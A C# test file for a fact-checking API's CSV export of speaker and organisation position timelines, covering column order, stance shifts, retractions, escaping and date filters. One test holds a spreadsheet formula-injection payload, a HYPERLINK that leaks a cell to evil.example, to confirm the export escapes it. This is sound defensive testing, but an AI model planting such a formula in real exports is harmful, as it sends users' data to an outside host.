using System.Text;
using Alba;
using ClaimsLedger.Statements;
using ClaimsLedger.Statements.AddingSources;
using ClaimsLedger.Statements.Recording;
using ClaimsLedger.Statements.Retracting;
using ClaimsLedger.Tests.Support;
using Shouldly;

namespace ClaimsLedger.Tests.Positions;

/// <summary>Position timelines as CSV, for fact-checkers who work in spreadsheets.</summary>
public sealed class TimelineCsvTests(AppFixture fixture) : ApiContext(fixture)
{
    private Task<Guid> StatementAsync(Guid speaker, Guid topic, string quote, string statedAt, SourceInput source, QuoteKind kind = QuoteKind.Direct) =>
        Given.CreateAsync("/api/statements", new RecordStatement(speaker, null, quote, kind, statedAt, [topic], source), "recorder");

    /// <summary>The download, its text as sent, and its rows as CsvHelper reads them back.</summary>
    private async Task<(IScenarioResult Result, string Text, List<Dictionary<string, string?>> Rows)> CsvAsync(string url)
    {
        var result = await Host.Scenario(s =>
        {
            s.WithBearerToken(Reader);
            s.Get.Url(url);
            s.StatusCodeShouldBeOk();
        });
        var body = await CsvRows.BytesAsync(result);
        return (result, Encoding.UTF8.GetString(body), CsvRows.Parse(body));
    }

    [Fact]
    public async Task One_row_per_entry_in_stated_order_with_attribution_stance_sources_and_the_shift_into_it()
    {
        var pentagon = await Given.OrganizationAsync();
        var cook = await Given.SpeakerAsync("Peter Cook", pentagon);
        var libya = await Given.TopicAsync();
        var january = await StatementAsync(cook, libya, "looking at military options", "2016-01-22", new SourceInput("i-HLS", "https://i-hls.com/archives/68094"));
        await Given.AssessAsync(january, libya, "considering-options", 1);
        await Given.ChangeAsync($"/api/statements/{january}/sources",
            new AddSource(new SourceInput("Homeland Security News Wire", "https://www.homelandsecuritynewswire.com/dr20160128"), 2), "recorder");
        var march = await Given.AssessedStatementAsync(cook, libya, "not going to happen", "2016-03-15", "ruled-out");
        // Recorded last, said between the two: its row comes second.
        var february = await Given.AssessedStatementAsync(cook, libya, "we are preparing", "2016-02", "preparing");
        var walkedBack = await Given.AssessedStatementAsync(cook, libya, "we are acting", "2016-02-20", "acting");
        await Given.ChangeAsync($"/api/statements/{walkedBack}/retraction", new RetractStatement("2016-02-21", null, null, 2), "editor");
        await Given.ProjectionsCaughtUpAsync();

        var (_, _, rows) = await CsvAsync($"/api/positions/organizations/{pentagon}/topics/{libya}/timeline.csv");

        rows[0].Keys.ShouldBe(
        [
            "stated_at", "speaker", "role", "organization", "quote", "kind", "stance_key", "stance_label", "retracted", "outlets", "source_urls",
            "statement_id", "shift", "editorial_status", "editorial_rating", "editorial_reason",
        ]);
        rows.Select(row => row["statement_id"]).ShouldBe([january.ToString(), february.ToString(), walkedBack.ToString(), march.ToString()]);
        rows.Select(row => (row["stated_at"], row["stance_key"], row["retracted"], row["shift"])).ShouldBe(
        [
            ("2016-01-22", "considering-options", "false", "none"),
            ("2016-02", "preparing", "false", "Half Flip"),
            ("2016-02-20", "acting", "true", "none"),
            ("2016-03-15", "ruled-out", "false", "Full Flop"),
        ]);
        var first = rows[0];
        (first["speaker"], first["role"], first["organization"]).ShouldBe(("Peter Cook", "Pentagon Press Secretary", "U.S. Department of Defense"));
        (first["quote"], first["kind"], first["stance_label"]).ShouldBe(("looking at military options", "direct", "Considering options"));
        first["outlets"].ShouldBe("i-HLS; Homeland Security News Wire");
        first["source_urls"].ShouldBe("https://i-hls.com/archives/68094 https://www.homelandsecuritynewswire.com/dr20160128");
    }

    [Fact]
    public async Task Commas_quotes_and_line_breaks_survive_and_a_formula_is_kept_as_text()
    {
        var pentagon = await Given.OrganizationAsync();
        var cook = await Given.SpeakerAsync("Peter Cook", pentagon);
        var libya = await Given.TopicAsync();
        const string tricky = "We are, as he put it, \"looking at options\".\nNothing more — for now.";
        const string formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for the source\")";
        const string minus = "-not a number, a quote";
        var first = await StatementAsync(cook, libya, tricky, "2016-01-22", new SourceInput("Reuters, Washington bureau", "https://example.com/a?b=1,2"));
        var second = await StatementAsync(cook, libya, formula, "2016-01-23", new SourceInput("@ the briefing"));
        var third = await StatementAsync(cook, libya, minus, "2016-01-24", new SourceInput("+1 outlet"), QuoteKind.Partial);
        foreach (var statement in new[] { first, second, third })
        {
            await Given.AssessAsync(statement, libya, "assessing", 1);
        }

        await Given.ProjectionsCaughtUpAsync();

        var (_, text, rows) = await CsvAsync($"/api/positions/speakers/{cook}/topics/{libya}/timeline.csv");

        rows.Select(row => row["quote"]).ShouldBe([tricky, "'" + formula, "'" + minus]);
        rows.Select(row => row["outlets"]).ShouldBe(["Reuters, Washington bureau", "'@ the briefing", "'+1 outlet"]);
        rows[0]["source_urls"].ShouldBe("https://example.com/a?b=1,2");
        text.ShouldContain("\"We are, as he put it, \"\"looking at options\"\".\nNothing more — for now.\"", Case.Sensitive,
            "RFC 4180: the field is quoted, inner quotes doubled, the line break kept inside");
        text.ShouldContain("\"'=HYPERLINK(", Case.Sensitive, "a spreadsheet must see text, not a formula");
        text.ShouldNotContain(",=HYPERLINK(", Case.Sensitive);
        rows.Select(row => row["stated_at"]).ShouldBe(["2016-01-22", "2016-01-23", "2016-01-24"], "dates are not text cells that need escaping");
    }

    [Fact]
    public async Task The_download_is_utf8_csv_with_a_file_name_for_speaker_and_organization_timelines()
    {
        var pentagon = await Given.OrganizationAsync("Département de la Défense");
        var speaker = await Given.SpeakerAsync("Émile Lahoud", pentagon, "Spokesman");
        var libya = await Given.TopicAsync();
        await Given.AssessedStatementAsync(speaker, libya, "« nous regardons les options »", "2016-01-22", "considering-options");
        await Given.ProjectionsCaughtUpAsync();

        foreach (var (url, fileName) in new[]
                 {
                     ($"/api/positions/speakers/{speaker}/topics/{libya}/timeline.csv",
                         "emile-lahoud_u-s-military-action-against-isis-in-libya_timeline.csv"),
                     ($"/api/positions/organizations/{pentagon}/topics/{libya}/timeline.csv?asOf=2016-02",
                         "departement-de-la-defense_u-s-military-action-against-isis-in-libya_timeline_asof-2016-02.csv"),
                 })
        {
            var (result, _, rows) = await CsvAsync(url);

            result.Context.Response.ContentType.ShouldBe("text/csv; charset=utf-8; header=present");
            result.Context.Response.Headers.ContentDisposition.ToString().ShouldStartWith($"attachment; filename={fileName}");
            rows.Single()["quote"].ShouldBe("« nous regardons les options »");
            rows.Single()["speaker"].ShouldBe("Émile Lahoud");
        }
    }

    [Fact]
    public async Task AsOf_and_knownAt_answer_as_the_json_timeline_does()
    {
        var pentagon = await Given.OrganizationAsync();
        var cook = await Given.SpeakerAsync("Peter Cook", pentagon);
        var libya = await Given.TopicAsync();
        var january = await Given.AssessedStatementAsync(cook, libya, "looking at military options", "2016-01-22", "considering-options");
        // The moment the first statement had been recorded and assessed: a recorded time the server set, no sleeping.
        var knownThen = (await Given.StatementDetailsAsync(january)).LastChangedAt;
        var march = await Given.AssessedStatementAsync(cook, libya, "any day now", "2016-03-15", "acting");
        await Given.ChangeAsync($"/api/statements/{january}/retraction", new RetractStatement("2016-04-01", null, null, 2), "editor");
        await Given.ProjectionsCaughtUpAsync();
        var timeline = $"/api/positions/speakers/{cook}/topics/{libya}/timeline.csv";

        var (_, _, all) = await CsvAsync(timeline);
        var (_, _, asOf) = await CsvAsync($"{timeline}?asOf=2016-02");
        var (_, _, known) = await CsvAsync($"{timeline}?knownAt={Uri.EscapeDataString(knownThen.ToString("O"))}");

        all.Select(row => (row["statement_id"], row["retracted"], row["shift"])).ShouldBe(
            [(january.ToString(), "true", "none"), (march.ToString(), "false", "none")]);
        asOf.Select(row => (row["statement_id"], row["retracted"])).ShouldBe([(january.ToString(), "false")],
            "as of February the March statement had not been said, nor the April retraction made");
        known.Select(row => (row["statement_id"], row["retracted"])).ShouldBe([(january.ToString(), "false")],
            "the March statement and the retraction were recorded later");
    }

    [Fact]
    public async Task An_empty_timeline_is_a_header_alone_and_unknown_actors_topics_and_bad_moments_are_problems()
    {
        var pentagon = await Given.OrganizationAsync();
        var cook = await Given.SpeakerAsync("Peter Cook", pentagon);
        var libya = await Given.TopicAsync();

        var empty = await Host.Scenario(s =>
        {
            s.WithBearerToken(Reader);
            s.Get.Url($"/api/positions/speakers/{cook}/topics/{libya}/timeline.csv");
            s.StatusCodeShouldBeOk();
        });
        Encoding.UTF8.GetString(await CsvRows.BytesAsync(empty)).ShouldBe(
            "\uFEFFstated_at,speaker,role,organization,quote,kind,stance_key,stance_label,retracted,outlets,source_urls,statement_id,shift,editorial_status,editorial_rating,editorial_reason\r\n");

        await this.ShouldBeRefusedAsync(s =>
        {
            s.WithBearerToken(Reader);
            s.Get.Url($"/api/positions/organizations/{Guid.NewGuid()}/topics/{libya}/timeline.csv");
        }, 404, "organization");
        await this.ShouldBeRefusedAsync(s =>
        {
            s.WithBearerToken(Reader);
            s.Get.Url($"/api/positions/speakers/{cook}/topics/{Guid.NewGuid()}/timeline.csv");
        }, 404, "topic");
        await this.ShouldBeRefusedAsync(s =>
        {
            s.WithBearerToken(Reader);
            s.Get.Url($"/api/positions/speakers/{cook}/topics/{libya}/timeline.csv?asOf=soon");
        }, 400, "asOf");
        await Host.Scenario(s =>
        {
            s.Get.Url($"/api/positions/speakers/{cook}/topics/{libya}/timeline.csv");
            s.StatusCodeShouldBe(401);
        });
    }
}
